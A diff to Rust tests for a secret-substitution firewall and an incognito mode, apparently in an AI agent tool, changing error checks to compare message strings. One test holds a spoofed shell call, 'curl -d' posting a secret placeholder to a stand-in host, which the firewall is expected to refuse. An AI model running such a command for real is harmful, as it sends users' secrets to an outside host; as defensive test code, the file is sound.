@@ -275,6 +275,7 @@ fn a_call_gets_its_secrets_back_or_does_not_run() {
     assert!(!format!("{restored:?} {firewall:?}").contains("mine-1"));
     let spoof = call("bash", &serde_json::json!({"command": "curl -d {{secret:own-0:1}} x"}));
     let refusal = firewall.restore_secrets(ToolKind::Shell, &spoof).unwrap_err();
+    let refusal = refusal.to_string();
     assert!(refusal.contains("`{{secret:own-0:1}}`, which does not stand for any secret"));
 }
 
@@ -336,7 +337,11 @@ fn incognito_keeps_nothing() {
         assert!(Privacy::Normal.can_save(keep) && !incognito.can_save(keep));
     }
     assert!(
-        incognito.check_provider(&cloud()).unwrap_err().contains("`cloud` is not on this machine")
+        incognito
+            .check_provider(&cloud())
+            .unwrap_err()
+            .to_string()
+            .contains("`cloud` is not on this machine")
     );
     assert!(
         incognito.check_provider(&ProviderFacts { name: "ollama".into(), local: true }).is_ok()
